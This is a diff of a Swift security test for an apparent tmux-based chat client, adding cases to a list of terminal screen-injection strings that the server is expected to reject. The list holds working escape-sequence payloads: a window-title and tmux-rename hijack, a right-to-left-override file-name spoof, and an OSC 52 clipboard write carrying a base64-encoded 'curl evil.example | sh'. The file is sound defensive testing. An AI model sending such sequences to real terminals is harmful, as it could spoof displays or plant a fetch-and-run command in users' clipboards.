@@ -8,10 +8,12 @@ import Testing
 struct InteractiveScreenSafetyTests {
     /// The screen-injection sequences, each after a visible word: OSC 0 window title, tmux rename (ESC k … ESC \),
     /// OSC 52 clipboard (`curl evil.example | sh`), clear screen, SGR colours, CR/BS overwrite of the list row, a
-    /// right-to-left override spoofing a file name.
+    /// right-to-left override spoofing a file name, and a row of skin-toned emoji that tmux draws twice as wide as
+    /// they are counted (it does not join the modifier).
     static let attacks = [
         "title\u{1B}]0;pwned-title\u{07}", "rename\u{1B}kpwned-window\u{1B}\\", "clip\u{1B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}",
-        "clear\u{1B}[2J\u{1B}[H", "colour\u{1B}[31;41mRED", "over\r\u{08}\u{08}\u{08} 1. Carol looks innocent", "file invoice\u{202E}fdp.exe",
+        "clear\u{1B}[2J\u{1B}[H", "colour\u{1B}[31;41mRED", "over\r\u{08}\u{08}\u{08} 1. Carol looks innocent",
+        "wide " + String(repeating: "👍🏽", count: 30), "file invoice\u{202E}fdp.exe",
     ]
 
     /// An interactive `herald` for `user` in a tmux window that would obey a rename and a clipboard write, and what
@@ -67,7 +69,7 @@ struct InteractiveScreenSafetyTests {
         _ = try server.token("alice")
         _ = try server.token("carol")
         // A group title is refused by the server on the way in (nothing stored)…
-        for attack in Self.attacks {
+        for attack in Self.attacks where attack.unicodeScalars.contains(where: { $0.value < 0x20 || $0.value == 0x202E }) {
             let answer = try bob.command("group \(quoted(attack)) alice carol")
             #expect(answer.type == "error" && answer.string("code") == "bad_request", "\(answer.raw)")
         }
